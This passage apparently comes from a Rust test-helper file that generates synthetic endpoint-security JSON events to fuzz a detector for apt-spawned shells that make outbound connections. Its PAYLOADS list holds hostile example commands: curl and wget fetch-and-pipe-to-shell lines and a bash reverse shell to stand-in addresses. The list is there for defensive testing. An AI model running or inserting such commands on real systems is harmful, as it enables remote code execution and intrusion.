        != (b.stage_matches, b.sequences_completed, b.annotated, b.missing_key, b.pending)
    {
        return Err(format!("stats differ with the prefilter: {b:?}\nwithout it: {a:?}"));
    }
    Ok(r)
}

/// Shrink a failing stream: drop records (chunks, then one by one) while
/// `fails` still holds. Returns the smaller stream.
pub fn minimise(records: &[Vec<u8>], fails: impl Fn(&[Vec<u8>]) -> bool) -> Vec<Vec<u8>> {
    let mut cur: Vec<Vec<u8>> = records.to_vec();
    let mut chunk = (cur.len() / 2).max(1);
    loop {
        let mut i = 0;
        let mut removed = false;
        while i < cur.len() {
            let mut trial = cur.clone();
            let end = (i + chunk).min(trial.len());
            trial.drain(i..end);
            if fails(&trial) {
                cur = trial;
                removed = true;
            } else {
                i += chunk;
            }
        }
        if chunk == 1 && !removed {
            return cur;
        }
        if !removed {
            chunk = (chunk / 2).max(1);
        }
    }
}

/// A stream as text, one record per line (for failure messages).
pub fn dump(records: &[Vec<u8>]) -> String {
    records
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let s = String::from_utf8_lossy(r);
            let compact = serde_json::from_slice::<Value>(r).map(|v| v.to_string()).unwrap_or_else(|_| s.to_string());
            format!("  [{i}] {compact}\n")
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Generator

/// Generator options.
#[derive(Debug, Clone, Copy, Default)]
pub struct GenOpts {
    /// Never let a network event that passes stage 2 join a stage-1 event
    /// (its parent entity id is an orphan): the stream completes nothing.
    pub no_alerts: bool,
    /// Sometimes pretty-print records (multi-line: not for the CLI).
    pub pretty: bool,
    /// Sometimes write a record that is not a JSON object.
    pub non_json: bool,
}

/// A generated stream: records in arrival order (= time order, ties allowed)
/// and what kind each is.
#[derive(Debug, Clone)]
pub struct Stream {
    pub records: Vec<Vec<u8>>,
    pub labels: Vec<&'static str>,
}

struct ExecRef {
    host: usize,
    entity: String,
    t: i64,
}

struct Gen {
    r: Rng,
    hosts: Vec<(String, String)>,
    execs: Vec<ExecRef>,
    now: i64,
    next_id: u64,
    seq: u64,
    dotted: u64,
    opts: GenOpts,
}

type Fields = Vec<(&'static str, Value)>;

fn set(f: &mut Fields, path: &'static str, v: Option<Value>) {
    f.retain(|(p, _)| *p != path);
    if let Some(v) = v {
        f.push((path, v));
    }
}

const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

const PAYLOADS: [&str; 7] = [
    "curl -s http://198.51.100.7/x | sh",
    "wget -qO- https://evil.example/p | bash",
    "nohup python3 -c 'import socket,os' >/dev/null 2>&1 &",
    "echo \"héllo wörld\" > /tmp/.x; /tmp/.x",
    "test -x /usr/bin/dpkg-preconfigure && /usr/bin/dpkg-preconfigure --apt || true",
    "if [ -x /usr/lib/update-notifier/update-motd-updates-available ]; then exec /usr/lib/update-notifier/update-motd-updates-available; fi",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 \u{1F600}\t\\",
];

/// Destinations that pass stage 2 (public, or not excluded by this rule).
const PUBLIC_DESTS: [&str; 24] = [
    "::ffff:8.8.8.8",
    "2001:4860:4860::8888",
    "2606:4700:4700::1111",
    "::",
    "fc00::1",
    "fd12:3456::1",
    "0.0.0.1",
    "100.63.255.255",
    "100.128.0.1",
    "172.15.255.255",
    "172.32.0.1",
    "192.0.1.1",
    "192.169.0.1",
    "198.20.0.1",
    "198.17.255.255",
    "223.255.255.255",
    "::2",
    "feff::1",
    "fec0::1",
    "fe7f::1",
    "::127.0.0.1",
    "64:ff9b::808:808",
    "0:0:0:0:0:ffff:808:808",
    "2001:DB8::1",
];

const GARBAGE_IPS: [&str; 8] =
    ["not-an-ip", "8.8.8.8:53", "", " 8.8.8.8", "fe80::1%eth0", "256.1.1.1", "1.2.3", "::ffff:1.2.3"];

impl Gen {
    fn new(seed: u64, opts: GenOpts, n_hosts: usize) -> Gen {
        let mut r = Rng::new(seed);
        let hosts = (0..n_hosts)
            .map(|i| {
                let id: String = (0..32).map(|_| char::from(b"0123456789abcdef"[r.below(16) as usize])).collect();
                (id, format!("host-{i}.example"))
            })
            .collect();
        // Base time: anywhere in 2020–2025 (in the past, so that the
        // detector's `max_future` check never ignores an event), or just
        // before a day / month / year / leap-day boundary.
        let now = match r.below(5) {
            0 => ms_of(2023, 12, 31, 23, 59, 50, 0),
            1 => ms_of(2024, 2, 28, 23, 59, 52, 0),
            2 => ms_of(2024, 12, 31, 21, 59, 55, 500), // local midnight at +02:00
            _ => ms_of(2020, 1, 1, 0, 0, 0, 0) + r.below(6 * 365 * 86_400_000) as i64,
        };
        let dotted = if r.chance(500) { 0 } else { 300 };
        Gen { r, hosts, execs: Vec::new(), now, next_id: 0, seq: 0, dotted, opts }
    }

    fn entity(&mut self) -> String {
        let mut s = String::with_capacity(41);
        for _ in 0..4 {
            let mut x = self.r.next_u64();
            for _ in 0..10 {
                s.push(char::from(B64[(x & 63) as usize]));
                x >>= 6;
            }
        }
        if self.r.chance(300) {
            s.push('=');
        }
        s
    }

    fn timestamp(&mut self, t: i64) -> String {
        let mut n = *self.r.pick(&[0usize, 1, 2, 3, 3, 6, 7, 7, 7, 7, 7, 9, 9]);
        let unit = [1000, 100, 10, 1];
        if n < 3 && t.rem_euclid(unit[n]) != 0 {
            n = 7;
        }
        let sub: String = (0..6).map(|_| char::from(b'0' + self.r.below(10) as u8)).collect();
        let off = match self.r.below(100) {
            0..=6 => 120,
            7..=9 => -210,
            _ => 0,
        };
        format_ts(t, n, &sub, off)
    }

    fn event_id(&mut self) -> String {
        self.next_id += 1;
        format!("ev-{:06}-{:04x}", self.next_id, self.r.below(1 << 16))
    }

    /// `host.id` as written on one event: mostly the host's id; sometimes a
    /// one-element array, missing, null, empty, or a different case.
    fn host_id(&mut self, h: usize) -> Option<Value> {
        let id = self.hosts[h].0.clone();
        Some(match self.r.below(1000) {
            0..=849 => json!(id),
            850..=919 => json!([id]),
            920..=939 => return None,
            940..=959 => Value::Null,
            960..=969 => json!([]),
            970..=984 => json!(id.to_uppercase()),
            _ => json!({ "value": id }),
        })
    }

    /// A join-key entity id as written: mostly the string.
    fn key_value(&mut self, e: &str) -> Option<Value> {
        Some(match self.r.below(1000) {
            0..=939 => json!(e),
            940..=959 => json!([e]),
            960..=974 => return None,
            975..=989 => Value::Null,
            _ => json!([]),
        })
    }

    fn category(&mut self, c: &str) -> Value {
        match self.r.below(100) {
            0..=79 => json!([c]),
            80..=89 => json!(c),
            90..=94 => json!([c, "file"]),
            _ => json!(["file", c]),
        }
    }

    fn start_type(&mut self) -> Value {
        match self.r.below(100) {
            0..=79 => json!(["start"]),
            80..=89 => json!("start"),
            90..=94 => json!(["start", "change"]),
            _ => json!(["info", "start"]),
        }
    }

    fn common(&mut self, t: i64, h: usize) -> Fields {
        self.seq += 1;
        let mut f: Fields = vec![
            ("@timestamp", json!(self.timestamp(t))),
            ("event.id", json!(self.event_id())),
            ("event.kind", json!("event")),
            ("event.sequence", json!(self.seq)),
            ("host.name", json!(self.hosts[h].1)),
            ("host.os.type", if self.r.chance(950) { json!("linux") } else { json!(["linux"]) }),
            ("host.os.name", json!("Ubuntu")),
            ("agent.type", json!("endpoint")),
            ("ecs.version", json!("8.10.0")),
        ];
        if let Some(v) = self.host_id(h) {
            f.push(("host.id", v));
        }
        f
    }

    /// Advance the clock by an ordinary step (often 0: equal timestamps).
    fn step(&mut self) -> i64 {
        self.now += match self.r.below(100) {
            0..=34 => 0,
            35..=79 => self.r.range(1, 400),
            80..=94 => self.r.range(400, 2500),
            _ => self.r.range(2500, 7000),
        };
        self.now
    }

    /// Time for an event that follows exec `target`: a gap chosen to hit the
    /// maxspan boundary, never before the current time.
    fn time_after(&mut self, target_t: i64) -> i64 {
        let gap = match self.r.below(100) {
            0..=9 => 0,
            10..=14 => 1,
            15..=44 => self.r.range(0, 5000),
            45..=54 => 4999,
            55..=69 => 5000,
            70..=79 => 5001,
            80..=84 => 5002,
            85..=92 => self.r.range(5001, 9000),
            _ => return self.step(),
        };
        self.now = self.now.max(target_t + gap);
        self.now
    }

    fn pick_host(&mut self) -> usize {
        self.r.below(self.hosts.len() as u64) as usize
    }

    /// A recent exec (the targets of children's connections).
    fn recent_exec(&mut self) -> Option<usize> {
        if self.execs.is_empty() {
            return None;
        }
        let n = self.execs.len().min(6);
        Some(self.execs.len() - 1 - self.r.below(n as u64) as usize)
    }

    fn shell_exec(&mut self, t: i64) -> (Fields, usize, String) {
        // entity: new, or a recent exec's again (repeated exec of a key)
        let (h, ent) = match self.recent_exec() {
            Some(i) if self.r.chance(250) => {
                let h = if self.r.chance(850) { self.execs[i].host } else { self.pick_host() };
                (h, self.execs[i].entity.clone())
            }
            _ => (self.pick_host(), self.entity()),
        };
        let shell = *self.r.pick(&SHELLS);
        let payload = *self.r.pick(&PAYLOADS);
        let args = match self.r.below(100) {
            0..=79 => json!([shell, "-c", payload]),
            80..=82 => json!(["-c"]),
            83..=84 => json!("-c"),
            85..=89 => json!([shell, "-e", "-c", payload]),
            90..=94 => json!([shell, "-c", "/usr/bin/apt-listbugs apt"]),
            _ => json!([[shell], ["-c", payload]]),
        };
        let mut f = self.common(t, h);
        let parent = self.entity();
        f.extend([
            ("event.category", self.category("process")),
            ("event.type", self.start_type()),
            ("event.action", if self.r.chance(950) { json!("exec") } else { json!(["exec"]) }),
            ("event.dataset", json!("endpoint.events.process")),
            ("process.name", json!(shell)),
            ("process.executable", json!(format!("/usr/bin/{shell}"))),
            ("process.args", args),
            ("process.args_count", json!(3)),
            ("process.command_line", json!(format!("{shell} -c {payload}"))),
            ("process.pid", json!(self.r.range(300, 99_999))),
            ("process.parent.name", if self.r.chance(950) { json!("apt") } else { json!(["apt"]) }),
            ("process.parent.executable", json!("/usr/bin/apt")),
            ("process.parent.entity_id", json!(parent)),
            ("process.parent.pid", json!(self.r.range(300, 99_999))),
            ("user.name", json!("root")),
            ("user.id", json!("0")),
        ]);
        if let Some(v) = self.key_value(&ent) {
            f.push(("process.entity_id", v));
        }
        (f, h, ent)
    }

    fn network(&mut self, t: i64, h: usize, parent: &str) -> Fields {
        let mut f = self.common(t, h);
        let name = *self.r.pick(&["curl", "wget", "python3", "bash", "nc"]);
        let dest = if self.r.chance(500) { json!(self.public_v4()) } else { json!(*self.r.pick(&PUBLIC_DESTS)) };
        let dest = match self.r.below(100) {
            0..=91 => dest,
            92..=94 => json!([dest]),
            95..=97 => json!([Value::Null, dest]),
            _ => json!([dest, "1.1.1.1"]),
        };
        let exe = match self.r.below(100) {
            0..=89 => Some(json!(format!("/usr/bin/{name}"))),
            90..=94 => None,
            95..=97 => Some(json!("/usr/bin/apt-listbugs ")),
            _ => Some(json!("/usr/bin/Apt-listbugs")),
        };
        let ent = self.entity();
        f.extend([
            ("event.category", self.category("network")),
            ("event.type", self.start_type()),
            ("event.action", json!("connection_attempted")),
            ("event.dataset", json!("endpoint.events.network")),
            ("process.name", json!(name)),
            ("process.pid", json!(self.r.range(300, 99_999))),
            ("process.entity_id", json!(ent)),
            ("destination.ip", dest),
            ("destination.port", json!(*self.r.pick(&[80, 443, 4444, 53]))),
            ("source.ip", json!("10.0.2.15")),
            ("source.port", json!(self.r.range(1024, 65535))),
            ("network.transport", json!("tcp")),
            ("network.direction", json!("egress")),
            ("user.name", json!("root")),
        ]);
        if let Some(e) = exe {
            f.push(("process.executable", e));
        }
        if let Some(v) = self.key_value(parent) {
            f.push(("process.parent.entity_id", v));
        }
        f
    }

    fn public_v4(&mut self) -> String {
        loop {
            let x = self.r.next_u64() as u32;
            if !ref_excluded(Addr::V4(x)) {
                return Ipv4Addr::from(x).to_string();
            }
        }
    }

    /// An address inside one of the rule's blocks (sometimes IPv4-mapped).
    fn excluded_addr(&mut self) -> String {
        let c = *self.r.pick(&RULE_CIDRS);
        let (net, bits) = match c.split_once('/') {
            Some((n, p)) => (n, p.parse::<u32>().unwrap()),
            None => (c, 128),
        };
        match net.parse::<IpAddr>().unwrap() {
            IpAddr::V4(n) => {
                let host_mask: u32 = if bits == 32 { 0 } else { u32::MAX >> bits };
                let a = Ipv4Addr::from(u32::from(n) | (self.r.next_u64() as u32 & host_mask));
                if self.r.chance(300) {
                    format!("::ffff:{a}")
                } else {
                    a.to_string()
                }
            }
            IpAddr::V6(n) => {
                let host_mask: u128 = if bits == 128 { 0 } else { u128::MAX >> bits };
                let rnd = ((self.r.next_u64() as u128) << 64) | self.r.next_u64() as u128;
                let a = Ipv6Addr::from(u128::from(n) | (rnd & host_mask)).to_string();
                if self.r.chance(300) {
                    a.to_uppercase()
                } else {
                    a
                }
            }
        }
    }

    /// The parent a network event names, and the time it happens at.
    fn net_target(&mut self) -> (usize, String, i64) {
        match self.recent_exec() {
            Some(i) if self.r.chance(850) => {
                let h = if self.r.chance(920) { self.execs[i].host } else { self.pick_host() };
                let ent = self.execs[i].entity.clone();
                let t = self.time_after(self.execs[i].t);
                (h, ent, t)
            }
            _ => {
                let h = self.pick_host();
                let e = self.entity();
                (h, e, self.step())
            }
        }
    }

    fn next(&mut self) -> (Vec<u8>, &'static str) {
        let roll = self.r.below(1000);
        if self.opts.non_json && roll < 5 {
            let junk = *self.r.pick(&[
                &b"not json"[..],
                b"{\"@timestamp\":",
                b"[1,2,3]",
                b"\"a string\"",
                b"{} {}",
                b"{\"host\":{\"id\":\"\xff\xfe\"}}",
                b"null",
            ]);
            return (junk.to_vec(), "nonjson");
        }
        let (fields, label) = match roll {
            0..=249 => {
                let t = self.step();
                let (mut f, h, ent) = self.shell_exec(t);
                self.execs.push(ExecRef { host: h, entity: ent, t });
                let label = if self.r.chance(4) {
                    set(&mut f, "@timestamp", Some(json!("2024-02-30T00:00:00Z")));
                    "stage1.bad-ts"
                } else {
                    "shell-exec"
                };
                (f, label)
            }
            250..=379 => {
                let t = self.step();
                let (mut f, h, ent) = self.shell_exec(t);
                self.execs.push(ExecRef { host: h, entity: ent, t });
                let label = self.mutate_exec(&mut f);
                (f, label)
            }
            380..=629 => {
                let (h, parent, t) = self.net_target();
                let parent = if self.opts.no_alerts { format!("orphan-{}", self.entity()) } else { parent };
                (self.network(t, h, &parent), "net-match")
            }
            630..=849 => {
                let (h, parent, t) = self.net_target();
                let mut f = self.network(t, h, &parent);
                let label = self.mutate_net(&mut f, &parent, h);
                (f, label)
            }
            _ => {
                let t = self.step();
                self.background(t)
            }
        };
        (self.render(fields), label)
    }

    /// One change that makes a shell exec miss stage 1.
    fn mutate_exec(&mut self, f: &mut Fields) -> &'static str {
        let shell = "sh";
        let p = "curl http://x";
        let (path, v, label): (&'static str, Option<Value>, &'static str) = match self.r.below(22) {
            0 => ("process.parent.name", Some(json!("apt-get")), "exec.parent=apt-get"),
            1 => ("process.parent.name", Some(json!("APT")), "exec.parent=APT"),
            2 => ("process.parent.name", Some(json!("apt ")), "exec.parent=apt+space"),
            3 => ("process.parent.name", None, "exec.parent.missing"),
            4 => ("process.parent.name", Some(Value::Null), "exec.parent.null"),
            5 => ("process.args", Some(json!([shell, "-x", p])), "exec.args.no-c"),
            6 => ("process.args", Some(json!([shell, "-C", p])), "exec.args=-C"),
            7 => ("process.args", Some(json!([format!("{shell} -c {p}")])), "exec.args.joined"),
            8 => ("process.args", Some(json!([shell, "-ce", p])), "exec.args=-ce"),
            9 => ("process.name", Some(json!("python")), "exec.name=python"),
            10 => ("process.name", Some(json!("Bash")), "exec.name=Bash"),
            11 => ("process.name", Some(json!("busybox")), "exec.name=busybox"),
            12 => ("host.os.type", Some(json!("windows")), "exec.os=windows"),
            13 => ("host.os.type", Some(json!("Linux")), "exec.os=Linux"),
            14 => ("host.os.type", None, "exec.os.missing"),
            15 => ("event.type", Some(json!(["change"])), "exec.type=change"),
            16 => ("event.type", Some(json!(["end"])), "exec.type=end"),
            17 => ("event.action", Some(json!("fork")), "exec.action=fork"),
            18 => ("event.action", Some(json!("Exec")), "exec.action=Exec"),
            19 => ("event.category", Some(json!(["file"])), "exec.category=file"),
            20 => ("event.category", Some(json!("Process")), "exec.category=Process"),
            _ => ("event.category", None, "exec.category.missing"),
        };
        set(f, path, v);
        label
    }

    /// One change that makes a network event miss stage 2 (or its key).
    fn mutate_net(&mut self, f: &mut Fields, parent: &str, h: usize) -> &'static str {
        let (path, v, label): (&'static str, Option<Value>, &'static str) = match self.r.below(20) {
            0 | 1 => ("destination.ip", Some(json!(self.excluded_addr())), "net.dst.excluded"),
            2 => (
                "destination.ip",
                Some(json!(*self.r.pick(&["0.0.0.0", "::ffff:0.0.0.0", "::ffff:0:0"]))),
                "net.dst=0.0.0.0",
            ),
            3 => ("destination.ip", Some(json!("::ffff:10.1.2.3")), "net.dst=::ffff:10.1.2.3"),
            4 => (
                "destination.ip",
                Some(json!(*self.r.pick(&["fe80::1", "FE80::abcd", "febf::1", "ff02::1"]))),
                "net.dst.fe80/ff00",
            ),
            5 => ("destination.ip", Some(json!(*self.r.pick(&["::1", "0:0:0:0:0:0:0:1"]))), "net.dst=::1"),
            6 => ("destination.ip", None, "net.dst.missing"),
            7 => {
                ("destination.ip", Some(self.r.pick(&[Value::Null, json!([]), json!([null])]).clone()), "net.dst.null")
            }
            8 => ("destination.ip", Some(json!(*self.r.pick(&GARBAGE_IPS))), "net.dst.garbage"),
            9 => ("destination.ip", Some(json!(["8.8.8.8", "10.0.0.1"])), "net.dst.mixed-array"),
            10 => ("process.executable", Some(json!("/usr/bin/apt-listbugs")), "net.exe=apt-listbugs"),
            11 => ("event.action", Some(json!("connection_accepted")), "net.action=connection_accepted"),
            12 => ("event.action", Some(json!("Connection_attempted")), "net.action=Connection_attempted"),
            13 => ("event.type", Some(json!(["end"])), "net.type=end"),
            14 => ("host.os.type", Some(json!("windows")), "net.os=windows"),
            15 => ("event.category", Some(json!(["process"])), "net.category=process"),
            16 => ("process.parent.entity_id", Some(json!(self.entity())), "net.parent=unknown"),
            17 => {
                // a host id no exec of this stream has
                let _ = h;
                let id = format!("{:016x}{:016x}", self.r.next_u64(), self.r.next_u64());
                ("host.id", Some(json!(id)), "net.parent.other-host")
            }
            18 => ("process.parent.entity_id", Some(json!(flip_case(parent))), "net.parent.case"),
            _ => ("process.parent.entity_id", None, "net.parent.missing"),
        };
        set(f, path, v);
        label
    }

    fn background(&mut self, t: i64) -> (Fields, &'static str) {
        let h = self.pick_host();
        let mut f = self.common(t, h);
        let label = match self.r.below(6) {
            0 => {
                let ent = self.recent_exec().map(|i| self.execs[i].entity.clone()).unwrap_or_default();
                f.extend([
                    ("event.category", json!(["file"])),
                    ("event.type", json!(["creation"])),
                    ("event.action", json!("creation")),
                    ("file.path", json!("/tmp/.x")),
                    ("process.entity_id", json!(ent)),
                    ("process.name", json!("sh")),
                ]);
                "bg.file"
            }
            1 => {
                let ent = self.entity();
                f.extend([
                    ("event.category", json!(["process"])),
                    ("event.type", json!(["start"])),
                    ("event.action", json!("exec")),
                    ("process.name", json!("bash")),
                    ("process.args", json!(["bash", "-c", "systemctl restart x"])),
                    ("process.parent.name", json!("systemd")),
                    ("process.entity_id", json!(ent)),
                ]);
                "bg.exec-systemd"
            }
            2 => {
                f.extend([
                    ("event.category", json!(["network"])),
                    ("event.type", json!(["start"])),
                    ("event.action", json!("connection_accepted")),
                    ("process.name", json!("sshd")),
                    ("destination.ip", json!("10.0.2.15")),
                    ("source.ip", json!("203.0.113.50")),
                ]);
                "bg.net-sshd"
            }
            3 => {
                f.extend([
                    ("event.category", json!(["network"])),
                    ("event.type", json!(["protocol", "info"])),
                    ("event.action", json!("lookup_requested")),
                    ("dns.question.name", json!("evil.example")),
                    ("destination.ip", json!("not an ip at all")),
                ]);
                "bg.dns"
            }
            4 => {
                set(
                    &mut f,
                    "@timestamp",
                    Some(json!(*self.r.pick(&["garbage", "2024-13-01T00:00:00Z", "", "1712345678"]))),
                );
                f.push(("message", json!("a line with \"quotes\", a tab\t, é and \u{1F980} and \\ and \u{7}")));
                "bg.bad-ts"
            }
            _ => {
                set(&mut f, "@timestamp", None);
                f.extend([
                    ("event.category", json!("authentication")),
                    ("process.parent.name", json!("apt")),
                    ("numbers", json!([1.5, -0.0, 1e300, 12345678901234567890u64, -42])),
                ]);
                "bg.no-ts"
            }
        };
        (f, label)
    }

    /// Write the fields as a JSON object: fields in random order, each one
    /// nested, or (in some streams) with some of its path joined by dots.
    fn render(&mut self, mut fields: Fields) -> Vec<u8> {
        self.r.shuffle(&mut fields);
        let mut root: Vec<(&'static str, Node)> = Vec::new();
        for (path, v) in fields {
            // the keys on the way: runs of whole segments of the path
            let mut chunks: Vec<&'static str> = Vec::with_capacity(4);
            let dotted = self.r.chance(self.dotted);
            let mut start = 0;
            for (i, _) in path.match_indices('.') {
                if !(dotted && self.r.chance(500)) {
                    chunks.push(&path[start..i]);
                    start = i + 1;
                }
            }
            chunks.push(&path[start..]);
            let mut cur = &mut root;
            for c in &chunks[..chunks.len() - 1] {
                let pos = match cur.iter().position(|(k, _)| k == c) {
                    Some(p) => p,
                    None => {
                        cur.push((c, Node::Obj(Vec::new())));
                        cur.len() - 1
                    }
                };
                cur = match &mut cur[pos].1 {
                    Node::Obj(m) => m,
                    Node::Leaf(_) => panic!("a leaf on the path of {path}"),
                };
            }
            let last = chunks[chunks.len() - 1];
            assert!(cur.iter().all(|(k, _)| *k != last), "field {path} written twice");
            cur.push((last, Node::Leaf(v)));
        }
        let mut out = Vec::with_capacity(1024);
        write_obj(&root, &mut out);
        if self.opts.pretty && self.r.chance(100) {
            let v: Value = serde_json::from_slice(&out).unwrap();
            serde_json::to_vec_pretty(&v).unwrap()
        } else {
            out
        }
    }
}

/// A record being written: members in order.
enum Node {
    Leaf(Value),
    Obj(Vec<(&'static str, Node)>),
}

/// Compact JSON, byte for byte as serde_json writes it.
fn write_obj(m: &[(&'static str, Node)], out: &mut Vec<u8>) {
    out.push(b'{');
    for (i, (k, n)) in m.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        write_str(k, out);
        out.push(b':');
        match n {
            Node::Leaf(v) => write_value(v, out),
            Node::Obj(c) => write_obj(c, out),
        }
    }
    out.push(b'}');
}

fn write_value(v: &Value, out: &mut Vec<u8>) {
    match v {
        Value::Null => out.extend_from_slice(b"null"),
        Value::Bool(b) => out.extend_from_slice(if *b { b"true" } else { b"false" }),
        Value::Number(n) => out.extend_from_slice(n.to_string().as_bytes()),
        Value::String(s) => write_str(s, out),
        Value::Array(a) => {
            out.push(b'[');
            for (i, x) in a.iter().enumerate() {
                if i > 0 {
                    out.push(b',');
                }
                write_value(x, out);
            }
            out.push(b']');
        }
        Value::Object(m) => {
            out.push(b'{');
            for (i, (k, x)) in m.iter().enumerate() {
                if i > 0 {
                    out.push(b',');
                }
                write_str(k, out);
                out.push(b':');
                write_value(x, out);
            }
            out.push(b'}');
        }
    }
}

fn write_str(s: &str, out: &mut Vec<u8>) {
    out.push(b'"');
    for &c in s.as_bytes() {
        match c {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\r' => out.extend_from_slice(b"\\r"),
            b'\t' => out.extend_from_slice(b"\\t"),
            0x08 => out.extend_from_slice(b"\\b"),
            0x0c => out.extend_from_slice(b"\\f"),
            0..=0x1f => out.extend_from_slice(format!("\\u{c:04x}").as_bytes()),
            _ => out.push(c),
        }
    }
    out.push(b'"');
}

fn flip_case(s: &str) -> String {
    let flipped: String = s
        .chars()
        .map(|c| if c.is_ascii_uppercase() { c.to_ascii_lowercase() } else { c.to_ascii_uppercase() })
        .collect();
    if flipped == s {
        format!("{s}X")
    } else {
        flipped
    }
}

/// Generate a stream of `n` records on 1–`max_hosts` hosts.
pub fn gen_stream(seed: u64, n: usize, max_hosts: u64, opts: GenOpts) -> Stream {
    let mut pre = Rng::new(seed ^ 0x5EED);
    // skewed towards few hosts, so that joins happen
    let spread = pre.below(max_hosts) + 1;
    let n_hosts = 1 + pre.below(spread) as usize;
    run_gen(Gen::new(seed, opts, n_hosts), n)
}

/// `n` records from `g`.
fn run_gen(mut g: Gen, n: usize) -> Stream {
    let mut records = Vec::with_capacity(n);
    let mut labels = Vec::with_capacity(n);
    for _ in 0..n {
        let (rec, label) = g.next();
        records.push(rec);
        labels.push(label);
        // keep the window of targets small
        if g.execs.len() > 64 {
            g.execs.drain(..32);
        }
    }
    Stream { records, labels }
}

/// An environment variable as a number, or `default`.
pub fn env_u64(name: &str, default: u64) -> u64 {
    match std::env::var(name) {
        Ok(v) => v.trim().parse().unwrap_or_else(|_| panic!("{name}={v:?} is not a number")),
        Err(_) => default,
    }
}

/// Generate a stream of `n` records from exactly `n_hosts` hosts, their
/// events interleaved in time order as a fleet's shipper or aggregator sees
/// them (for the scale-out and threads tests). The same kinds of records as
/// [`gen_stream`]: sequences, near misses, cross-host links, `host.id`
/// written as a one-element array, in another case, as an object, null,
/// empty or missing.
pub fn gen_fleet_stream(seed: u64, n: usize, n_hosts: usize, opts: GenOpts) -> Stream {
    run_gen(Gen::new(seed, opts, n_hosts.max(1)), n)
}
